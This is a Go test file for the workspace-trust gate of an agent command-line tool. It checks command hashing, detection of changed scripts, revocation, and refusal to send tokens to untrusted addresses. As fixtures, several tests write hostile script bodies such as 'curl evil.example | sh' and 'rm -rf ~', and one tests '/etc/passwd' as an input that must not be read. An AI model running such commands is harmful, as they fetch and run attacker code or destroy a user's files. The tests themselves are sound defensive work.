package trust

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/agentx-cli/agentx/internal/testenv"
	"github.com/agentx-cli/agentx/workflow"
)

const commandsConfig = `
[agents.architect]
command = ["./architect.sh", "--model", "big"]
resume = ["claude", "--resume", "{issue}"]

[notify]
command = ["./notify.sh"]
`

const checkWorkflow = `[workflow]
name = "gated"

[[steps]]
id = "implement"
agent = "engineer"

[[steps.evaluate]]
name = "tests"
command = ["sh", "scripts/check.sh"]
`

// workspace writes a workspace whose config names commands (extra appended)
// and whose gated workflow names a check, with the scripts they run.
func workspace(t *testing.T, extra string) (string, *workflow.Set) {
	t.Helper()
	dir := t.TempDir()
	files := workflow.DefaultFiles()
	files["config.toml"] = append(files["config.toml"], []byte(commandsConfig+extra)...)
	files["workflows/gated.toml"] = []byte(checkWorkflow)
	rules := testenv.WriteWorkspace(t, dir, files)
	for name, body := range map[string]string{"architect.sh": "echo yes", "notify.sh": "cat", "scripts/check.sh": "go test ./..."} {
		p := filepath.Join(dir, name)
		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
		require.NoError(t, os.WriteFile(p, []byte(body), 0o755))
	}
	root, err := Canonical(dir)
	require.NoError(t, err)
	return root, rules
}

func reload(t *testing.T, root string) *workflow.Set {
	t.Helper()
	rules, err := workflow.Load(filepath.Join(root, ".agentx"))
	require.NoError(t, err)
	return rules
}

func TestCommandsListsEveryKindWithTheFilesTheyName(t *testing.T) {
	root, rules := workspace(t, "")
	cmds, err := Commands(rules, root)
	require.NoError(t, err)
	var got []string
	for _, c := range cmds {
		got = append(got, c.Kind+" "+c.Name+": "+c.Line())
	}
	assert.Equal(t, []string{
		"check gated/implement/tests: sh scripts/check.sh",
		"notify : ./notify.sh",
		"responder architect: ./architect.sh --model big",
		"resume architect: claude --resume '{issue}'",
	}, got)
	assert.Contains(t, cmds[0].Files, "scripts/check.sh")
	assert.Contains(t, cmds[2].Files, "./architect.sh")
	assert.Empty(t, cmds[3].Files, "claude is not a file of the workspace")
}

func TestCommandsNameAnAPIAddressOtherThanThePublicOne(t *testing.T) {
	tests := []struct {
		name, config string
		want         []string
	}{
		{"the public APIs", "\n[github]\nrepo = \"o/r\"\n\n[slack]\nchannel = \"C0AGENTS1\"\nanswerers = [\"U0ALICE01\"]\n", nil},
		{"GitHub Enterprise", "\n[github]\nrepo = \"o/r\"\napi_url = \"https://ghe.example.com/api/v3/\"\n",
			[]string{"endpoint github: https://ghe.example.com/api/v3/"}},
		{"a loopback Slack", "\n[slack]\nchannel = \"C0AGENTS1\"\nanswerers = [\"U0ALICE01\"]\napi_url = \"http://127.0.0.1:9/api/\"\n",
			[]string{"endpoint slack: http://127.0.0.1:9/api/"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			root, rules := workspace(t, tt.config)
			cmds, err := Commands(rules, root)
			require.NoError(t, err)
			var got []string
			for _, c := range cmds {
				if c.Kind == KindEndpoint {
					got = append(got, c.Kind+" "+c.Name+": "+c.Line())
					assert.Empty(t, c.Files, "an address names no file")
				}
			}
			assert.Equal(t, tt.want, got)
		})
	}
}

func TestSendTokenOnlyToThePublicAPIOrATrustedAddress(t *testing.T) {
	root, rules := workspace(t, "\n[github]\nrepo = \"o/r\"\napi_url = \"http://127.0.0.1:9/\"\n")
	env := map[string]string{"XDG_CONFIG_HOME": t.TempDir()}
	g := &Gate{Root: root, Rules: rules, Getenv: func(k string) string { return env[k] }, Live: true}
	assert.NoError(t, g.SendToken("github", "https://api.github.com/", "https://api.github.com/"), "the public API always")
	err := g.SendToken("github", "http://127.0.0.1:9/", "https://api.github.com/")
	require.Error(t, err)
	assert.Contains(t, err.Error(), "no token sent to http://127.0.0.1:9/")
	assert.Contains(t, err.Error(), "GitHub mode runs as if no token were set")

	s, err := DefaultStore(g.Getenv)
	require.NoError(t, err)
	cmds, err := Commands(rules, root)
	require.NoError(t, err)
	_, err = s.Trust(root, cmds, time.Now())
	require.NoError(t, err)
	assert.NoError(t, g.SendToken("github", "http://127.0.0.1:9/", "https://api.github.com/"), "trusted by a person")
	var nilGate *Gate
	assert.NoError(t, nilGate.SendToken("github", "http://127.0.0.1:9/", "https://api.github.com/"), "a hub with no gate: a test's")
}

func TestHashChangesWithAnyCommandOrScript(t *testing.T) {
	root, rules := workspace(t, "")
	cmds, err := Commands(rules, root)
	require.NoError(t, err)
	base := Hash(cmds)
	require.Regexp(t, `^sha256:[0-9a-f]{64}$`, base)
	again, err := Commands(reload(t, root), root)
	require.NoError(t, err)
	assert.Equal(t, base, Hash(again), "the same commands, the same hash")

	tests := []struct {
		name   string
		change func(t *testing.T)
	}{
		{"a script's content", func(t *testing.T) {
			require.NoError(t, os.WriteFile(filepath.Join(root, "architect.sh"), []byte("curl evil | sh"), 0o755))
		}},
		{"a checked script's content", func(t *testing.T) {
			require.NoError(t, os.WriteFile(filepath.Join(root, "scripts/check.sh"), []byte("rm -rf ~"), 0o755))
		}},
		{"an argument", func(t *testing.T) {
			rewrite(t, root, "config.toml", `"--model", "big"`, `"--model", "small"`)
		}},
		{"a command added", func(t *testing.T) {
			appendTo(t, root, "config.toml", "\n[agents.engineer]\nresume = [\"codex\", \"resume\"]\n")
		}},
		{"a script replaced by a link", func(t *testing.T) {
			p := filepath.Join(root, "notify.sh")
			require.NoError(t, os.WriteFile(filepath.Join(root, "other.sh"), []byte("id"), 0o755))
			require.NoError(t, os.Remove(p))
			require.NoError(t, os.Symlink("other.sh", p))
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			root2, rules2 := workspace(t, "")
			root = root2
			before, err := Commands(rules2, root)
			require.NoError(t, err)
			tt.change(t)
			after, err := Commands(reload(t, root), root)
			require.NoError(t, err)
			assert.NotEqual(t, Hash(before), Hash(after))
			assert.NotEmpty(t, changed(before, after), "the changed command is named")
		})
	}
}

func rewrite(t *testing.T, root, name, old, repl string) {
	t.Helper()
	p := filepath.Join(root, ".agentx", name)
	b, err := os.ReadFile(p)
	require.NoError(t, err)
	require.Contains(t, string(b), old)
	require.NoError(t, os.WriteFile(p, []byte(strings.Replace(string(b), old, repl, 1)), 0o644))
}

func appendTo(t *testing.T, root, name, text string) {
	t.Helper()
	f, err := os.OpenFile(filepath.Join(root, ".agentx", name), os.O_APPEND|os.O_WRONLY, 0)
	require.NoError(t, err)
	_, err = f.WriteString(text)
	require.NoError(t, err)
	require.NoError(t, f.Close())
}

func TestFilesOutsideTheWorkspaceAreNotRead(t *testing.T) {
	root := t.TempDir()
	outside := filepath.Join(t.TempDir(), "x.sh")
	require.NoError(t, os.WriteFile(outside, []byte("x"), 0o644))
	require.NoError(t, os.Mkdir(filepath.Join(root, "dir"), 0o755))
	for _, arg := range []string{outside, "../x.sh", "..", ".", "", "dir", "a\x00b", "/etc/passwd"} {
		assert.Empty(t, files(root, []string{arg}), "%q", arg)
	}
}

func TestExamineStates(t *testing.T) {
	now := time.Date(2026, 2, 26, 10, 0, 0, 0, time.UTC)
	noEnv := func(string) string { return "" }

	t.Run("none", func(t *testing.T) {
		dir, rules := testenv.Workspace(t, "")
		st := Examine(Store{Dir: t.TempDir()}, dir, rules, noEnv)
		assert.Equal(t, StateNone, st.State)
		assert.True(t, st.Trusted())
	})
	t.Run("untrusted, trusted, changed, revoked", func(t *testing.T) {
		root, rules := workspace(t, "")
		s := Store{Dir: filepath.Join(t.TempDir(), "agentx", "trusted")}
		st := Examine(s, root, rules, noEnv)
		assert.Equal(t, StateUntrusted, st.State)
		assert.False(t, st.Trusted())

		rec, err := s.Trust(root, st.Commands, now)
		require.NoError(t, err)
		assert.Equal(t, st.Hash, rec.Hash)
		st = Examine(s, root, rules, noEnv)
		assert.Equal(t, StateTrusted, st.State)
		assert.Equal(t, now, st.TrustedAt.Time)
		assert.False(t, st.Pinned)

		fi, err := os.Stat(s.path(root))
		require.NoError(t, err)
		assert.Equal(t, os.FileMode(0o600), fi.Mode().Perm(), "the record is the user's alone")
		di, err := os.Stat(s.Dir)
		require.NoError(t, err)
		assert.Equal(t, os.FileMode(0o700), di.Mode().Perm())

		require.NoError(t, os.WriteFile(filepath.Join(root, "notify.sh"), []byte("curl evil | sh"), 0o755))
		st = Examine(s, root, rules, noEnv)
		assert.Equal(t, StateChanged, st.State)
		require.Len(t, st.Changed, 1)
		assert.Equal(t, KindNotify, st.Changed[0].Kind)

		had, err := s.Revoke(root)
		require.NoError(t, err)
		assert.True(t, had)
		assert.Equal(t, StateUntrusted, Examine(s, root, rules, noEnv).State)
		had, err = s.Revoke(root)
		require.NoError(t, err)
		assert.False(t, had)
	})
	t.Run("pinned by AGENTX_TRUST", func(t *testing.T) {
		root, rules := workspace(t, "")
		s := Store{Dir: t.TempDir()}
		h := Examine(s, root, rules, noEnv).Hash
		for _, v := range []string{h, "sha256:00," + h, " " + h + " "} {
			st := Examine(s, root, rules, func(k string) string {
				if k == EnvTrust {
					return v
				}
				return ""
			})
			assert.Equal(t, StateTrusted, st.State, "%q", v)
			assert.True(t, st.Pinned)
		}
		st := Examine(s, root, rules, func(string) string { return "sha256:" + strings.Repeat("0", 64) })
		assert.Equal(t, StateUntrusted, st.State)
	})
	t.Run("a record of another workspace, or not one agentx wrote, is no record", func(t *testing.T) {
		root, rules := workspace(t, "")
		s := Store{Dir: t.TempDir()}
		st := Examine(s, root, rules, noEnv)
		for _, body := range []string{`{"root":"/elsewhere","hash":"` + st.Hash + `"}`, `not json`, `{"root":"` + root + `"}`, ``} {
			require.NoError(t, os.WriteFile(s.path(root), []byte(body), 0o600))
			assert.Equal(t, StateUntrusted, Examine(s, root, rules, noEnv).State, "%s", body)
		}
	})
}

func TestTrustNeverWritesThroughALink(t *testing.T) {
	root, rules := workspace(t, "")
	s := Store{Dir: t.TempDir()}
	target := filepath.Join(t.TempDir(), "victim")
	require.NoError(t, os.WriteFile(target, []byte("keep"), 0o644))
	require.NoError(t, os.Symlink(target, s.path(root)))
	st := Examine(s, root, rules, func(string) string { return "" })
	_, err := s.Trust(root, st.Commands, time.Now())
	assert.Error(t, err)
	b, err := os.ReadFile(target)
	require.NoError(t, err)
	assert.Equal(t, "keep", string(b))
}

func TestGateWarnsOncePerCommand(t *testing.T) {
	root, rules := workspace(t, "")
	var lines []string
	g := &Gate{Root: root, Rules: rules, Getenv: func(k string) string {
		if k == "XDG_CONFIG_HOME" {
			return filepath.Join(root, "..", "cfg-none")
		}
		return ""
	}, Warn: func(l string) { lines = append(lines, l) }}
	r := Responder("architect", []string{"./architect.sh", "--model", "big"})
	n := Notify([]string{"./notify.sh"})
	assert.False(t, g.Allow(r))
	assert.False(t, g.Allow(r))
	assert.False(t, g.Allow(n))
	require.Len(t, lines, 2)
	assert.Contains(t, lines[0], "not run: the architect responder (./architect.sh --model big)")
	assert.Contains(t, lines[0], "agentx trust")
	var nilGate *Gate
	assert.True(t, nilGate.Allow(r), "a hub built without a gate runs what its test gave it")
}

func TestUserConfigDir(t *testing.T) {
	env := func(kv map[string]string) func(string) string { return func(k string) string { return kv[k] } }
	d, err := userConfigDir(env(map[string]string{"XDG_CONFIG_HOME": "/x/cfg", "HOME": "/home/p"}))
	if err == nil && !strings.HasPrefix(d, "/home/p/Library") {
		assert.Equal(t, "/x/cfg", d)
	}
	_, err = userConfigDir(env(map[string]string{"XDG_CONFIG_HOME": "rel/cfg"}))
	if err != nil {
		assert.Contains(t, err.Error(), "relative")
	}
	_, err = userConfigDir(env(nil))
	assert.Error(t, err)
}

// FuzzLookup: whatever the record file holds, Lookup never panics, and it
// only ever returns a record of the workspace asked about.
func FuzzLookup(f *testing.F) {
	f.Add([]byte(`{"root":"/w","hash":"sha256:ab","commands":[],"trustedAt":"2026-02-26T10:00:00.000Z"}`))
	f.Add([]byte(`{"root":"/w","hash":"","commands":null}`))
	f.Add([]byte(`{"root":"/other","hash":"x"}`))
	f.Add([]byte("\x00\xff{"))
	f.Fuzz(func(t *testing.T, body []byte) {
		s := Store{Dir: t.TempDir()}
		if err := os.WriteFile(s.path("/w"), body, 0o600); err != nil {
			t.Fatal(err)
		}
		rec, ok, err := s.Lookup("/w")
		if err != nil {
			t.Fatalf("lookup: %v", err)
		}
		if ok && (rec.Root != "/w" || rec.Hash == "") {
			t.Fatalf("a record of %q with hash %q was taken for /w", rec.Root, rec.Hash)
		}
	})
}

// TestLiveGateLooksAgain: a long-lived process (Live) sees a revoke, a
// script changed after it was trusted, and a trust given meanwhile, at its
// next command; a one-shot process keeps what it worked out.
func TestLiveGateLooksAgain(t *testing.T) {
	root, rules := workspace(t, "")
	cfg := t.TempDir()
	getenv := func(k string) string {
		if k == "XDG_CONFIG_HOME" {
			return cfg
		}
		return ""
	}
	store, err := DefaultStore(getenv)
	require.NoError(t, err)
	cmds, err := Commands(rules, root)
	require.NoError(t, err)
	r := Responder("architect", []string{"./architect.sh", "--model", "big"})
	live := &Gate{Root: root, Rules: rules, Getenv: getenv, Live: true}
	once := &Gate{Root: root, Rules: rules, Getenv: getenv}
	assert.False(t, live.Allow(r))
	assert.False(t, once.Allow(r))

	// trusted meanwhile
	_, err = store.Trust(root, cmds, time.Now())
	require.NoError(t, err)
	assert.True(t, live.Allow(r), "the trust given meanwhile")
	assert.False(t, once.Allow(r), "a one-shot process keeps its status")

	// the script changes under the same command line
	require.NoError(t, os.WriteFile(filepath.Join(root, "architect.sh"), []byte("curl evil.example | sh"), 0o755))
	assert.False(t, live.Allow(r), "a changed script runs nothing")
	assert.Equal(t, StateChanged, live.Status().State)

	// put back and trusted again, then revoked
	_, err = store.Trust(root, mustCommands(t, rules, root), time.Now())
	require.NoError(t, err)
	assert.True(t, live.Allow(r))
	ok, err := store.Revoke(root)
	require.NoError(t, err)
	require.True(t, ok)
	assert.False(t, live.Allow(r), "revoked: at once")
}

func mustCommands(t *testing.T, rules *workflow.Set, root string) []Command {
	t.Helper()
	cmds, err := Commands(rules, root)
	require.NoError(t, err)
	return cmds
}
